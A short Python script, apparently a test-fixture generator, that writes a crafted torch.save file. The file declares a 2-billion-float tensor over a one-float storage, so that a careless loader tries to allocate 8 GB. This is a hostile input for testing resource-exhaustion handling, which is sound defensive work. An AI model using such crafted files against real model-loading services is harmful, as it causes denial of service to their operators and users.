"""Writes a tiny torch.save file whose one tensor is a view of 2,000,000,000 floats over a 1-float storage.

Usage: write_hostile_pth.py FILE
A loader that allocates what the file declares asks for 8 GB before it reads a byte.
"""
import sys

import torch

torch.save({"fc.weight": torch.zeros(1).expand(2_000_000_000)}, sys.argv[1])
